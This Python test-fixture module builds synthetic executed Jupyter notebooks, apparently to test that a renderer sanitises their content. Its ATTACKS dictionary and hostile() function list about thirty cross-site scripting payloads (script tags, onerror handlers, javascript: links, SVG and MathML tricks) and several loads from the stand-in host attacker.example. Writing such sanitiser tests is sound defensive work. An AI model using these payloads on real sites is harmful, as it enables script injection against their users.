"""Executed notebooks as they would come out of a kernel, made without one."""

import base64
import io
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from PIL import Image

from nbutils.suite.findings import MIME_TYPE, finding_record

PARAMETERS = 'model: str = "small"  # which one\ncount: int = 3  # how many\nseed: int = 0\noutput_dir: str = ""'
FINDINGS = (
    {"claim": "it grows", "quantity": "ratio", "measured": 2.0, "interval": (1, 3), "verdict": "holds"},
    {"claim": "it shrinks", "quantity": "ratio", "measured": 2.0, "verdict": "fails", "reason": "it grows"},
    {"claim": "it is <b>blue</b>", "quantity": "hue", "verdict": "not testable here", "reason": "no colours & such"},
)


def png(colour: str = "red", size: tuple[int, int] = (40, 20)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, colour).save(buffer, format="PNG")
    return buffer.getvalue()


def display(data: dict, metadata: dict | None = None):
    return new_output("display_data", data=data, metadata=metadata or {})


def figure(colour: str = "red", alt: str | None = "A red field.", size: tuple[int, int] = (40, 20)):
    encoded = base64.b64encode(png(colour, size)).decode()
    return display({"image/png": encoded, "text/plain": "Figure"}, {"image/png": {"alt": alt}} if alt else {})


def caption(text: str):
    return display({"text/markdown": text, "text/plain": text})


def code(source: str, *outputs, number: int = 1, tags: tuple[str, ...] = ()):
    return new_code_cell(
        source, execution_count=number, outputs=list(outputs), metadata={"tags": list(tags)} if tags else {}
    )


def findings(*given: dict, parameters: dict | None = None):
    record = {
        "schema_version": 1,
        "notebook": "made",
        "parameters": {"model": "small", "count": 3, "seed": 0, **(parameters or {})},
        "findings": [finding_record(finding) for finding in given],
    }
    return display({MIME_TYPE: record, "text/html": "<table>raw</table>", "text/plain": "raw"})


def write(path: Path, *cells) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    notebook = new_notebook(cells=list(cells))
    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    for number, cell in enumerate(notebook.cells):
        cell["id"] = f"cell-{number}"
    nbformat.write(notebook, path)
    return path


def whole(path: Path, *cells, title: str = "# Does it grow?", parameters: dict | None = None) -> Path:
    """Write a notebook that ran to its end, with `cells` between its figure and its findings."""
    return write(
        path,
        new_markdown_cell(f"{title}\n\nAfter [Someone, 2024](https://arxiv.org/abs/2401.00001). Words."),
        code(PARAMETERS, tags=("parameters",)),
        new_markdown_cell("## A picture"),
        code("run.show(1)", figure(), caption("It is *red*."), number=2),
        *cells,
        new_markdown_cell("## Findings"),
        code("run.finish()", findings(*FINDINGS, parameters=parameters), number=3),
    )


ATTACKS = {
    "script": "<script>attacked()</script>",
    "script in capitals": "<SCRIPT SRC=https://attacker.example/x.js></SCRIPT >",
    "script in script": "<scr<script>ipt>attacked()</scr</script>ipt>",
    "onerror": "<img src=x onerror=attacked()>",
    "onerror with a slash": "<img/src=x/onerror=attacked()>",
    "remote image": "<img src=https://attacker.example/pixel.png>",
    "javascript link": '<a href="javascript:attacked()">press</a>',
    "javascript link with entities": '<a href="jav&#x09;ascript&colon;attacked()">press</a>',
    "data link": '<a href="data:text/html,<script>attacked()</script>">press</a>',
    "link without a scheme": '<a href="//attacker.example">press</a>',
    "svg": "<svg onload=attacked()><script>attacked()</script></svg>",
    "svg animation": "<svg><a><animate attributeName=href values=javascript:attacked() /></a></svg>",
    "iframe": '<iframe src="https://attacker.example" srcdoc="<script>attacked()</script>"></iframe>',
    "object": '<object data="https://attacker.example"></object><embed src="https://attacker.example">',
    "style sheet": "<style>@import url(https://attacker.example/x.css); body { display: none }</style>",
    "style with an address": '<p style="background: url(https://attacker.example/x.png)">words</p>',
    "style that covers": '<p style="position: fixed; inset: 0; z-index: 9">words</p>',
    "linked style sheet": '<link rel=stylesheet href="https://attacker.example/x.css">',
    "base": '<base href="https://attacker.example/">',
    "refresh": '<meta http-equiv=refresh content="0;url=https://attacker.example">',
    "form": '<form action="https://attacker.example"><input autofocus onfocus=attacked()><button>go</button></form>',
    "handler": "<details open ontoggle=attacked()><summary>s</summary></details>",
    "mathml": "<math><mtext></mtext><mglyph><style><img src=x onerror=attacked()></style></mglyph></math>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=attacked()>"></noscript>',
    "comment": "<!--><img src=x onerror=attacked()>-->",
    "template": "<template><script>attacked()</script></template>",
    "textarea": "<textarea></textarea><img src=x onerror=attacked()>",
    "unclosed": "<img src=x onerror=attacked() ",
    "own style class": '<div class="skip" id="content">words</div>',
}


def hostile(path: Path) -> Path:
    """Write a notebook of which everything tries to run a script or to load something."""
    title = "# Who <script>attacked()</script> is <img src=x onerror=attacked()> here?"
    cells = [
        *(new_markdown_cell(f"## {name}\n\n{attack}") for name, attack in ATTACKS.items()),
        new_markdown_cell("[press](javascript:attacked()) ![x](https://attacker.example/x.png) $<img src=x>$"),
        *(code("show()", display({"text/html": attack, "text/plain": "plain"})) for attack in ATTACKS.values()),
        code("show()", display({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='attacked()'/>"})),
        code("show()", display({"application/javascript": "attacked()"})),
        code("show()", display({"text/latex": "$</code><script>attacked()</script>$"})),
        code("show()", display({"text/markdown": ATTACKS["onerror"]})),
        code("show()", display({"text/plain": ATTACKS["script"]})),
        code("show()", new_output("stream", name="stdout", text=ATTACKS["script"] + "\x1b[31mred\x1b[0m")),
        code("</code><script>attacked()</script>"),
        code("show()", figure(alt='"><script>attacked()</script>')),
    ]
    return whole(path, *cells, title=title, parameters={"model": "<script>attacked()</script>"})
